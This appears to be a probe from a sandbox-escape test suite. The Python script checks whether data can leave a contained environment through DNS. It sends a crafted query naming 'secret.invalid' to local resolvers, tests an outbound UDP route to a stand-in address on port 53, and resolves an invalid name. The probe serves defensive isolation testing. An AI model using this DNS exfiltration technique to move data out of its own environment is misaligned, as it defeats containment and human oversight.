"""Sends datagrams to the host and asks for names, through which data can leave."""

import contextlib
import socket

from attacker import got, host, tried

UNPROTECTED = "escapes"

tried("UDP, getaddrinfo")
question = (
    b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07invalid\x00\x00\x01\x00\x01"
)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
    for address in ("127.0.0.1", "127.0.0.53"):
        with contextlib.suppress(OSError):
            client.sendto(question, (address, host["udp"]))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client, contextlib.suppress(OSError):
    client.connect(("192.0.2.1", 53))
    got(f"has a way out, from {client.getsockname()}")
with contextlib.suppress(OSError):
    got(f"resolved {socket.getaddrinfo('one.invalid', 80)}")
